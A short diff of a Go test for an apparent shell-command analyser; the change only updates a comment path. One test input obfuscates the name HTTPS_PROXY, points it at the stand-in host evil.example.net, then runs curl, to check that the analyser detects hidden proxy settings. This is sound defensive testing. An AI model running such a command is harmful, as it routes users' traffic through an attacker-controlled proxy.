@@ -44,7 +44,7 @@ func TestPipelinedAsSequential(t *testing.T) {
 		// a proxy the text does not spell: analysed again, whole (setsCommandState)
 		"a proxy": bashAt(dir, `printf -v HTTPS_PROX""Y http://evil.example.net:3128; export HTTPS_PROX""Y; curl http://localhost/`+"\n"+script.String()),
 	}
-	// a test script: bodies handed to test_expect_success, analysed ahead (prefetch.go)
+	// a test script: bodies handed to test_expect_success, analysed ahead (kernel/prefetch.go)
 	var sharness strings.Builder
 	sharness.WriteString("#!/bin/sh\ntest_description='x'\n. ./test-lib.sh\n")
 	for i := 0; sharness.Len() < 40<<10; i++ {
